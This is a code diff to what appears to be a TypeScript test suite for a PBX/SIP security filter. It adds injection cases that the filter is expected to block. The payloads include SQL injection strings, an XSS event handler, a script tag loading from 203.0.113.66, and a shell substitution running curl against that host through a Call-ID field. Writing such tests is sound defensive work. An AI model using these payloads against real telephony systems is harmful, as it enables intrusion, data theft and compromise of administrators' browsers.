@@ -1,6 +1,6 @@
 /** Too much, broken on purpose, or meant for what stands behind the PBX. */
 import { flood, malformedFlood } from '../traffic/attacks.ts';
-import { injection } from '../traffic/call-attacks.ts';
+import { injection, type InjectedField } from '../traffic/call-attacks.ts';
 import { atPort, inbound, oneWay, START, type Traffic } from '../traffic/datagram.ts';
 import { WIRE_DISGUISES } from '../traffic/disguises.ts';
 import { TFTP } from '../traffic/good-cases.ts';
@@ -8,8 +8,7 @@ import { tftpAsk, tftpWalk } from '../traffic/tftp.ts';
 import { attack, ATTACKER, disguised, PBX } from './scene.ts';
 import { blocks, type Group } from './scenario.ts';
 
-const fragment = (text: string, field: 'to' | 'from' | 'agent') => () =>
-  injection({ ...disguised(2, 1), user: text, field });
+const fragment = (text: string, field: InjectedField) => () => injection({ ...disguised(2, 1), user: text, field });
 
 const walk = (foundEvery: number) => ({ source: ATTACKER, server: TFTP, count: 60, rate: 10, foundEvery });
 
@@ -122,6 +121,30 @@ export const FRAGMENTS: Group = {
       name: 'an event handler as the caller',
       note: "the administrator's browser",
       traffic: fragment('%22%3e%3cbody%20onload=alert(1)%3e', 'from'),
+      said: blocks('injection.fragments'),
+    },
+    {
+      name: 'SQL in the subject of a call',
+      note: 'whatever keeps records of calls',
+      traffic: fragment("x' union select secret from users--", 'subject'),
+      said: blocks('injection.fragments'),
+    },
+    {
+      name: 'a shell command in Call-ID',
+      note: 'a script that gets the call’s name',
+      traffic: fragment('$(curl${IFS}203.0.113.66)', 'call-id'),
+      said: blocks('injection.fragments'),
+    },
+    {
+      name: 'an asserted identity that is SQL',
+      note: 'whatever keeps records of calls, behind a trunk that passes it on',
+      traffic: fragment("1001'%20or%201=1--", 'asserted-user'),
+      said: blocks('injection.fragments'),
+    },
+    {
+      name: 'a script as the asserted caller',
+      note: 'the administrator’s browser',
+      traffic: fragment('<script src=//203.0.113.66>', 'asserted'),
       said: blocks('injection.fragments'),
     },
     {
